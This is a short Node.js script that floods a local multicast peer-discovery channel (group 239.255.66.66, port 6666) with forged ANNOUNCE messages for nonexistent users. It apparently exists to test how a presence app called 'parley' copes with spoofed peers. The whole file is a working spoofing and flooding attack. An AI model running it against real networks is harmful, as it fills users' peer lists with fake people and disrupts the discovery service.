import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';

/** An attacker that announces people who do not exist: node flood.mjs OWN_ADDRESS COUNT */
const [address, count] = process.argv.slice(2);
const socket = createSocket('udp4');
await new Promise((resolve) => socket.bind(0, address, resolve));
socket.setMulticastInterface(address);
for (let sent = 0; sent < Number(count); sent += 1) {
  const forged = {
    peer: randomBytes(32).toString('base64url'),
    instance: 'forged',
    seq: 1,
    user: `nobody${sent}`,
    status: 'available',
    urls: [`parley://${address}:9`],
    expires: 15,
  };
  const datagram = `ANNOUNCE ${JSON.stringify(forged)}\n`;
  await new Promise((resolve) => socket.send(datagram, 6666, '239.255.66.66', resolve));
}
console.log('flooded');
socket.close();
